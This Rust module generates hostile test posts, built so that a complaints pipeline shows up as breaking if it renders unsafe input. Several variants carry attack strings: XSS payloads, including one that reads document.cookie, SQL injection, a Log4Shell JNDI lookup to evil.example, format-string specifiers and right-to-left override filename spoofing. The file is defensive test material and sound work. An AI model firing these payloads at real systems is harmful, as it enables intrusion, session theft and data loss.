//! Text built to break things downstream: markup and script, bidi overrides,
//! invisible characters, ZWJ emoji and flags, CJK, lookalike letters,
//! combining marks, control characters, injection strings, very long URLs,
//! posts around the 280-character limit and a few kilobyte-sized ones.
//!
//! Almost every one still names a place, so a search finds it and it flows
//! all the way through to the officers' desk, which is where it must render
//! safely.

use rand::RngExt;

use super::gazetteer::EMOJI;
use super::render::{Writer, hashtag_body, pick};

/// How many kinds of hostile text [`build`] makes.
pub(super) const VARIANTS: usize = 18;

/// One hostile post: its text and language.
pub(super) fn build(w: &mut Writer<'_>) -> (String, &'static str) {
    let variant = w.rng.random_range(0..VARIANTS);
    build_variant(w, variant)
}

/// Hostile text of one kind (`variant < VARIANTS`).
pub(super) fn build_variant(w: &mut Writer<'_>, variant: usize) -> (String, &'static str) {
    let place = w.place();
    let text = match variant {
        0 => w.render("<script>alert(1)</script> {place} council website is broken lol"),
        1 => w.render("<img src=x onerror=alert(document.cookie)> fly-tipping on {street}, {place}"),
        2 => w.render(
            "<b>{place}</b> &amp; <i>{street}</i> &lt;3 \"quotes\" 'single' </textarea><svg/onload=alert(1)>",
        ),
        3 => w.render("Evidence of the fly-tipping in {place}: \u{202E}4pm.exe\u{202C} and \u{202E}gnp.scr"),
        4 => invisible(&place),
        5 => w.render(
            "👨‍👩‍👧‍👦 day out in {place} 🏳️‍🌈 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧🇯🇲🇳🇬🇵🇰🇮🇳🇵🇱 👩🏽‍🦱 🧑🏿‍🤝‍🧑🏻 👋🏾",
        ),
        6 => return (format!("{place}的垃圾没人收 ゴミ収集が来ない 쓰레기 수거 안 됨 🗑️"), "zh"),
        7 => long_url(w, &place),
        8 => near_limit(w),
        9 => format!("{place} {}", pick(w.rng, EMOJI).repeat(w.rng.random_range(141..=200))),
        10 => huge(w, &place),
        11 => format!("{} is cursed {place}", zalgo(&place)),
        12 => w.render(
            "'; DROP TABLE posts;-- {place} \" OR 1=1 -- {{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
        ),
        13 => w.render("{place}\r\nline two\tTabbed\n\n\n\u{0085}next\u{2028}sep\u{2029}end\u{FEFF}"),
        14 => format!("{} {} (not the real {place})", fullwidth(&place), cyrillic(&place)),
        15 => w.render("cafe\u{0301} on {street} is nai\u{0308}ve about {place} Ångström vs A\u{030A}ngstro\u{0308}m"),
        16 => w.render(
            "[click here](javascript:alert(1)) **{place}** <a href=\"javascript:alert(1)\">bins</a>",
        ),
        _ => mention_spam(w, &place),
    };
    let lang = match variant {
        5 | 9 => "und",
        _ => "en",
    };
    (text, lang)
}

/// Zero-width space, joiner and non-joiner inside and around the name.
fn invisible(place: &str) -> String {
    let mut chars = place.chars();
    let first: String = chars.next().into_iter().collect();
    let rest: String = chars.collect();
    format!("{first}\u{200B}{rest} council\u{200D} is a \u{200B}\u{200C}joke. {place}\u{200B}")
}

/// A link of 500 to 2,000 characters.
fn long_url(w: &mut Writer<'_>, place: &str) -> String {
    let target = w.rng.random_range(500..=2_000);
    let mut url = format!("https://example.org/report?area={}", hashtag_body(place));
    let mut k = 0;
    while url.len() < target {
        url.push_str(&format!(
            "&utm_param{k}={}",
            w.rng.random_range(100_000..999_999)
        ));
        k += 1;
    }
    url.truncate(target);
    format!("Full report on {place} here: {url}")
}

/// A complaint padded to 275–290 characters.
fn near_limit(w: &mut Writer<'_>) -> String {
    let mut text =
        w.render("The bins on {street} in {place} have not been collected for weeks and");
    let target = w.rng.random_range(275..=290);
    while text.chars().count() < target {
        text.push_str(" sort it out");
    }
    let mut text: String = text.chars().take(target - 1).collect();
    text.push('!');
    text
}

/// About 4 kB of text.
fn huge(w: &mut Writer<'_>, place: &str) -> String {
    let size = w.rng.random_range(3_800..=4_200);
    let filler = if w.rng.random_bool(0.5) { "A" } else { "🚮" };
    let mut text = format!("{place} ");
    while text.len() < size {
        text.push_str(filler);
    }
    text
}

/// Combining marks stacked on every letter.
fn zalgo(text: &str) -> String {
    const MARKS: [char; 6] = [
        '\u{0336}', '\u{0337}', '\u{0338}', '\u{0300}', '\u{0301}', '\u{036A}',
    ];
    text.chars()
        .enumerate()
        .flat_map(|(i, c)| [c, MARKS[i % MARKS.len()], MARKS[(i + 2) % MARKS.len()]])
        .collect()
}

/// Fullwidth forms, as in `Ｃｒｏｙｄｏｎ`.
fn fullwidth(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '!'..='~' => char::from_u32(c as u32 + 0xFEE0).unwrap_or(c),
            ' ' => '\u{3000}',
            _ => c,
        })
        .collect()
}

/// Cyrillic lookalikes for the Latin letters that have one.
fn cyrillic(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            'C' => 'С',
            'c' => 'с',
            'o' => 'о',
            'O' => 'О',
            'e' => 'е',
            'a' => 'а',
            'p' => 'р',
            'y' => 'у',
            'x' => 'х',
            'H' => 'Н',
            'T' => 'Т',
            _ => c,
        })
        .collect()
}

/// Forty mentions and a wall of hashtags.
fn mention_spam(w: &mut Writer<'_>, place: &str) -> String {
    let mut text = String::new();
    for _ in 0..40 {
        text.push_str(&w.mention());
        text.push(' ');
    }
    let tag = format!("#{} ", hashtag_body(place));
    text.push_str(&tag.repeat(20));
    text.push_str(place);
    text
}
